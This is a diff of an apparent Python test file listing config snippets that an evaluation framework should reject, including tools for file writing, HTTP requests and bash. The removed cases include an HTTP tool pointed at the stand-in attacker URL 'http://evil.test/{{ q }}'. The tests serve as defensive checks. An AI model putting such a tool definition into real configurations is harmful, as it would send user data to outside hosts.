@@ -435,19 +435,6 @@ DEMANDS = {
         "value: '1'}]}}]}",
         "a block of code starts a program",
     ),
-    "a tool of a soul that writes files": (
-        f"tools: [file_io]\n{SOUL}tools: [file_io]}}}}\n{ASKED}",
-        r"a tool of a soul \(file_io\) starts a program",
-    ),
-    "a tool of a soul that requests": (
-        f"tools: [http]\n{SOUL}tools: [http]}}}}\n{ASKED}",
-        "EVALCORE_ALLOW_ADDRESSES",
-    ),
-    "a tool of a soul at an address": (
-        "tools: {find: {type: http, url: 'http://evil.test/{{ q }}'}}\n"
-        f"{SOUL}tools: [find]}}}}\n{ASKED}",
-        r"http://evil\.test",
-    ),
     "a program of a script": (
         "shared: {tools: [{import_tool: llm_workers.tools.unsafe.bash}]}\n"
         "suites: {s: {tests: {t: {do: {call: bash, params: {script: 'true'}}}}}}",
